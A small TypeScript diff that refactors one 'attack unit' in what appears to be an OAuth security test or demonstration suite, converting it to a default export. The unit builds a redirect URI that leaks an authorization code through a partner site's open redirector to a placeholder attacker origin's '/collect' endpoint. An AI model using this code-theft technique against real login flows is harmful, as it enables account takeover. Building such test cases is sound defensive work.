@@ -6,7 +6,7 @@ import { ATTACKER_ORIGIN, PARTNER_ORIGIN } from '../origins';
 
 const REDIRECT_URI = `${PARTNER_ORIGIN}/away?to=${encodeURIComponent(`${ATTACKER_ORIGIN}/collect`)}`;
 
-const attack: AttackUnit = {
+export default {
   order: 83,
   group: 'login at a partner',
   label: 'Code through an open redirector',
@@ -21,6 +21,4 @@ const attack: AttackUnit = {
     'The partner is a public client, so it exchanges a code without a client secret.',
   ],
   play: (hands) => leadCodeTo(hands, REDIRECT_URI),
-};
-
-export default attack;
+} satisfies AttackUnit;
